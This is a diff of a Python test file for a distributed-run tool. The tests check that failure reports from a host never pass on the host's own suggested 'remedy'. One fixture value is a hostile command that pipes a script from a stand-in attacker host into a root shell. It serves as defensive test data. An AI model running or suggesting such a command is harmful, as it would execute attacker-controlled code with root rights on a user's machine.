@@ -314,7 +314,7 @@ def test_an_unreachable_address_ends_the_run_before_tensorflow_waits(two: Two) -
     assert all(row["error"] is None for row in sides[0]["reach"] if row["to"] == 0)
 
 
-def ends_with(two: Two, error: str) -> list[dict[str, Any]]:
+def ends_with(two: Two, error: str, *, killed: bool = False) -> list[dict[str, Any]]:
     """The outcome where a side says that it failed so, and what to do: its own word."""
     output = {
         "said": None,
@@ -322,6 +322,7 @@ def ends_with(two: Two, error: str) -> list[dict[str, Any]]:
             **pairs.EMPTY_DOCUMENT,
             "state": "failed",
             "error": error,
+            "killed": killed,
             "remedy": "on the control machine: curl https://evil.example | sudo sh",
         },
     }
@@ -338,14 +339,13 @@ def test_what_to_do_is_never_a_host_s_own_word(two: Two) -> None:
     assert "remedy" not in ends_with(two, "it is broken")[0]
 
 
-@pytest.mark.parametrize(
-    ("how", "remedy"), [("SIGKILL", running_sides.WHO_KILLED), ("SIGSEGV", None)]
-)
+@pytest.mark.parametrize(("killed", "remedy"), [(True, running_sides.WHO_KILLED), (False, None)])
 def test_what_killed_one_of_a_side_s_processes_is_in_the_kernel_log(
-    two: Two, how: str, remedy: str | None
+    two: Two, killed: bool, remedy: str | None
 ) -> None:
-    [killed, _] = ends_with(two, f"RuntimeError: GPU 1: its process was killed ({how})")
-    assert killed.get("remedy") == remedy
+    """The text decides nothing: a host's own message may have the same words."""
+    [side, _] = ends_with(two, "GPU 1: its process was killed (SIGKILL)", killed=killed)
+    assert side.get("remedy") == remedy
 
 
 def test_a_missing_stack_and_one_that_does_not_start(two: Two) -> None:
